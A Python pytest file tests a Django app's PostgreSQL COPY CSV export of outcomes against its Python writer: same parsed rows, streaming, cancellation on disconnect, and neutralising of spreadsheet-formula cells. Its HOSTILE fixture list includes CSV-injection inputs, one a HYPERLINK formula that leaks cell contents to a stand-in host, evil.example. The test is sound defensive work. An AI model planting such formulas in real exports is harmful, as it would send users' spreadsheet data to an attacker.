"""On PostgreSQL the CSV export of outcomes is written by COPY: the same parsed rows as the Python writer."""

import csv
import datetime
import io

import psycopg2
import pytest
from django.core.signals import request_finished
from django.db import close_old_connections, connection

from core import exports
from outcomes.exports import OutcomeExport
from outcomes.models import Organisation, Outcome
from tests.factories import OutcomeFactory, PartnershipFactory

pytestmark = [
    pytest.mark.django_db,
    pytest.mark.skipif(
        connection.vendor != "postgresql",
        reason="COPY is PostgreSQL's; SQLite uses the Python path",
    ),
]

HOSTILE = [
    "=1+1",
    '+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "-5",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    'a "quoted" word',
    "commas, in, it",
    "two\nlines",
    "windows\r\nline end",
    "Mind the Gap – Health and Wellbeing for elderly",
    "unicode: Zürich, 日本, ✓",
    "日本 first: a first character beyond ASCII",
    "\uff1d1+1 (a full-width equals sign: not a formula)",
    " leading space",
    "'already quoted",
    "\\.",
    "back\\slash",
    "",
]
SORTS = ["", "date", "-date", "title", "-title", "partnership", "-country", "type"]


def body(response):
    return b"".join(response.streaming_content)


def parsed(response):
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def both_ways(client, monkeypatch, params):
    """The export from COPY, then from the Python writer, of the same request."""
    database = client.get("/outcomes/", {**params, "export": "csv"})
    with monkeypatch.context() as patched:
        patched.setattr(exports, "_csv_copy_query", lambda export: None)
        python = client.get("/outcomes/", {**params, "export": "csv"})
    assert database.status_code == python.status_code == 200
    assert database["Content-Disposition"] == python["Content-Disposition"]
    return database, python


@pytest.fixture
def hostile():
    partnerships = [
        PartnershipFactory(name=name or "Plain", slug=f"hostile-{index}")
        for index, name in enumerate(HOSTILE[:4])
    ]
    for index, text in enumerate(HOSTILE):
        partnership = partnerships[index % len(partnerships)]
        if index % 2:
            OutcomeFactory(
                partnership=partnership,
                title=text or "untitled",
                city=text,
                country_id=["CN", "BR", "US"][index % 3],
                date=datetime.date(2010 + index % 5, 1 + index % 12, 1),
                evidence_url="https://example.eu/?a=1,b=2" if index % 3 else "",
                counterpart=Organisation.objects.create(name=f"{text} {index}", country_id="CN"),
            )
        else:
            OutcomeFactory(
                partnership=partnership,
                type=Outcome.Type.MISSION,
                subtype="business_trip",
                direction="incoming",
                title=text or "untitled",
                city=text,
                country_id=["CN", "BR", "US"][index % 3],
                date=None,
                year=None if index % 4 else 2015,
            )


@pytest.mark.parametrize("sort", SORTS)
@pytest.mark.parametrize("filters", [{}, {"type": "mou"}, {"country": "CN"}])
def test_copy_and_python_give_the_same_rows_for_hostile_values(
    client, monkeypatch, hostile, sort, filters
):
    database, python = both_ways(
        client, monkeypatch, {**filters, **({"sort": sort} if sort else {})}
    )
    rows = parsed(database)
    assert rows == parsed(python)
    assert len(rows) > 1 + (3 if filters else len(HOSTILE) - 1)
    # COPY really wrote it: its lines end in "\n", csv.writer's in "\r\n".
    assert body(client.get("/outcomes/", {"export": "csv", **filters})).count(b"\r\n") < len(rows)


def test_hostile_cells_come_out_neutralised_and_whole(client, hostile):
    rows = {
        row["id"]: row
        for row in csv.DictReader(
            io.StringIO(body(client.get("/outcomes/", {"export": "csv"})).decode("utf-8-sig"))
        )
    }
    by_title = {Outcome.objects.get(pk=pk).title: row for pk, row in rows.items()}
    assert by_title["=1+1"]["title"] == "'=1+1"
    assert by_title["-5"]["title"] == "'-5"
    assert by_title["\tstarts with a tab"]["title"] == "'\tstarts with a tab"
    assert by_title["windows\r\nline end"]["city"] == "windows\r\nline end"
    assert by_title['a "quoted" word']["title"] == 'a "quoted" word'
    assert by_title["untitled"]["city"] == ""
    assert by_title["Mind the Gap – Health and Wellbeing for elderly"]["country_name"]
    assert all(row["url"] == f"http://testserver/outcomes/{pk}/" for pk, row in rows.items())


def test_copy_and_python_give_the_same_rows_for_the_seed_data(client, monkeypatch, seeded):
    for params in [{}, {"type": "mou"}, {"country": "CN", "sort": "title"}, {"sort": "-date"}]:
        database, python = both_ways(client, monkeypatch, params)
        rows = parsed(database)
        assert len(rows) > 1
        assert rows == parsed(python)


def test_the_cell_rules_in_sql_match_python_for_every_kind():
    values = {
        "number": [-5, 0, 2013, None],
        "date": [datetime.date(2013, 3, 1), datetime.date(999, 12, 31), None],
        "text": [*HOSTILE, None],
    }
    for kind, cases in values.items():
        cell = exports._sql_csv_cell(kind, "v.x")
        placeholders = ", ".join(["(%s)"] * len(cases))
        copied = io.StringIO()
        with connection.cursor() as cursor:
            query = cursor.mogrify(
                f"SELECT {cell}, 'end' FROM (VALUES {placeholders}) AS v(x)", cases
            )
            cursor.copy_expert(f"COPY ({query.decode()}) TO STDOUT WITH (FORMAT csv)", copied)
        written = io.StringIO()
        csv.writer(written).writerows(
            [["" if value is None else exports._CSV_CELL[kind](value), "end"] for value in cases]
        )
        # A second column, as in every export: a line of one empty cell is written differently.
        from_sql = list(csv.reader(io.StringIO(copied.getvalue())))
        assert from_sql == list(csv.reader(io.StringIO(written.getvalue()))), kind
        assert len(from_sql) == len(cases)


def test_bom_0_leaves_the_mark_out_of_the_copied_file(client, hostile):
    assert body(client.get("/outcomes/", {"export": "csv"})).startswith("\ufeffid,".encode())
    assert body(client.get("/outcomes/", {"export": "csv", "bom": "0"})).startswith(b"id,")


def _bulk_outcomes(count):
    partnership = PartnershipFactory()
    Outcome.objects.bulk_create(
        Outcome(
            partnership=partnership,
            type=Outcome.Type.MOU,
            title=f"A long enough title to fill the blocks, number {n:06d} " + "x" * 120,
            country_id="US",
            is_published=True,
        )
        for n in range(count)
    )


def _copies_running():
    """COPY queries running on the test's own connection, seen from a connection of its own.

    Only that connection's: a parallel plan adds worker processes that show the same COPY, and
    other connections may be exporting too.
    """
    settings = connection.get_connection_params()
    with psycopg2.connect(**settings) as other, other.cursor() as cursor:
        cursor.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE query LIKE 'COPY%%' AND state = 'active' "
            "AND pid = %s",
            [connection.connection.info.backend_pid],
        )
        return cursor.fetchone()[0]


@pytest.mark.long
def test_the_first_block_leaves_while_the_copy_still_runs(client):
    _bulk_outcomes(30_000)  # about 6 MB: far more than the blocks that may wait in memory
    response = client.get("/outcomes/", {"export": "csv"})
    stream = iter(response.streaming_content)
    first = next(stream)
    running_after_first_block = _copies_running()
    rest = b"".join(stream)  # read to the end before asserting: a COPY left running spoils teardown
    assert first.startswith("\ufeffid,".encode()) and b"A long enough title" in first
    assert running_after_first_block == 1
    assert (first + rest).count(b"\n") == 30_001
    assert _copies_running() == 0


@pytest.mark.long
def test_a_client_that_leaves_mid_file_stops_the_copy_and_frees_the_connection():
    _bulk_outcomes(30_000)
    # Straight from the export: the test client would close the test's connection with the response.
    response = exports.csv_response(OutcomeExport(Outcome.objects.all(), "http://testserver"))
    next(iter(response.streaming_content))
    running_mid_file = _copies_running()
    # As a WSGI server does when the client is gone; the test's connection stays open meanwhile.
    request_finished.disconnect(close_old_connections)
    try:
        response.close()
    finally:
        request_finished.connect(close_old_connections)
    assert running_mid_file == 1
    assert _copies_running() == 0
    assert Outcome.objects.count() == 30_000  # the connection answers again
